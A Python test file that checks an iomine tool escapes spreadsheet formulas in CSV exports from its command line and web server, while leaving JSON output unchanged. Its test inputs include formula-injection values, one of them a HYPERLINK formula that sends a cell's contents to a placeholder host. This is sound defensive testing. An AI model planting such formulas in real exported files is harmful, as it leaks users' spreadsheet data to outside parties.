"""Files that the server hands out, and those of `iomine sql`."""

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from web_server import ask_server, served

from iomine.cli.options import Format
from iomine.cli.terminal.formats import write
from iomine.schema.registry import arrow_schema
from iomine.triggers.registry import reference_table
from iomine.views.catalog import build_catalog

FORMULAS = ('=HYPERLINK("http://host.test/?"&A1)', "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1")
PLAIN = ("/scratch/a=b", "'quoted", "ada", "a\rb")
USERS = [*FORMULAS, *PLAIN]
UIDS = list(range(-3, len(USERS) - 3))
GUARDED = {"user": [*(f"'{text}" for text in FORMULAS), *PLAIN], "uid": [str(uid) for uid in UIDS]}


def _read(body: bytes) -> dict[str, list[str]]:
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    return {name: [row[name] for row in rows] for name in ("user", "uid")}


@pytest.mark.parametrize("form", [Format.CSV, Format.JSON])
def test_files_of_commands_have_no_formulas(tmp_path: Path, form: Format) -> None:
    """CSV guards texts, and has each row as one; JSON, for programs, has every text as it is."""
    output = tmp_path / "answer"
    write(pa.table({"user": USERS, "uid": UIDS}), form, output)
    if form is Format.CSV:
        assert GUARDED == _read(output.read_bytes())
    else:
        assert [{"user": user, "uid": uid} for user, uid in zip(USERS, UIDS, strict=True)] == json.loads(output.read_text())


def test_browsers_get_no_formulas(tmp_path: Path) -> None:
    """What a spreadsheet would work out begins with an apostrophe; other texts, and numbers below zero, are as they are."""
    schema = arrow_schema("log")
    rows = [
        dict.fromkeys(schema.names) | {"log_id": f"{uid + 3:02}", "user": user, "uid": uid}
        for user, uid in zip(USERS, UIDS, strict=True)
    ]
    part = tmp_path / "lake" / "log" / "cluster=alpha" / "night=2024-04-18" / "part.parquet"
    part.parent.mkdir(parents=True)
    pq.write_table(pa.Table.from_pylist(rows, schema), part)
    build_catalog(tmp_path / "iomine.duckdb", {"log": [str(part)]}, {"triggers": reference_table()}, {})
    with served(tmp_path) as address:
        got = _read(ask_server(address, "/views/logs.csv?columns=user,uid,log_id&order=log_id").body)
    assert GUARDED == got
